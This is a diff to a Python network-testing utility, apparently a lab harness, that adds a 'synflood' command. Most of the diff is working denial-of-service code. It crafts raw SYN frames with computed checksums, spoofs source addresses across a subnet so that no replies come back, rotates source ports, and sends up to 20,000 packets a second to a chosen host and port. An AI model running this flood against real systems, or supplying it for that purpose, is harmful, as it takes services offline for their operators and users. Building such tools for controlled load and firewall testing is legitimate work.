@@ -29,6 +29,15 @@
   cttraffic.py sniff IFACE SECS DPORT   counts TCP segments with SYN and ACK
                                         set to DPORT that arrive within SECS;
                                         prints the count
+  cttraffic.py synflood IFACE SRC_MAC DST_MAC SRC_NET DST_IP DPORT SECS STOP
+                                        a SYN flood: SYNs to DST_IP:DPORT from
+                                        SRC_NET.100-199 (addresses nobody
+                                        has, so nothing answers), source ports
+                                        1024 up (a new one each until 64 000
+                                        were sent, then the next address), at
+                                        most 20 000 a second,
+                                        until SECS passed or the file STOP
+                                        exists; prints how many it sent
 """
 import select
 import socket
@@ -183,6 +192,44 @@ def stray(iface, smac, dmac, sip, dip, dport):
     return 0
 
 
+def syn_frame(smac, dmac, src, dst, sport, dport):
+    tcp = struct.pack("!HHIIBBHHH", sport, dport, sport * 7919, 0, 5 << 4, 0x02, 64000, 0, 0)
+    tcp = tcp[:16] + struct.pack("!H", csum(src + dst + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)) + tcp[18:]
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), sport, 0, 64, 6, 0, src, dst)
+    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
+    return dmac + smac + b"\x08\x00" + ip + tcp
+
+
+def synflood(iface, smac, dmac, net, dip, dport, secs, stop):
+    import os
+
+    smac, dmac = bytes.fromhex(smac.replace(":", "")), bytes.fromhex(dmac.replace(":", ""))
+    dst, dport = socket.inet_aton(dip), int(dport)
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    s.bind((iface, 0))
+    start = time.monotonic()
+    deadline = start + float(secs)
+    n = 0
+    while True:
+        for _ in range(200):
+            src = socket.inet_aton(f"{net}.{100 + (n // 64000) % 100}")
+            sport = 1024 + n % 64000
+            try:
+                s.send(syn_frame(smac, dmac, src, dst, sport, dport))
+            except OSError:
+                pass  # a full transmit queue: the next round tries again
+            n += 1
+        now = time.monotonic()
+        if now >= deadline or os.path.exists(stop):
+            break
+        # At most 20 000 a second.
+        ahead = n / 20000 - (now - start)
+        if ahead > 0:
+            time.sleep(ahead)
+    print(n)
+    return 0
+
+
 def sniff(iface, secs, dport):
     s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
     s.bind((iface, 0))
@@ -220,6 +267,8 @@ def main():
         return stray(*args)
     if cmd == "sniff":
         return sniff(*args)
+    if cmd == "synflood":
+        return synflood(*args)
     sys.exit(__doc__)
 
 
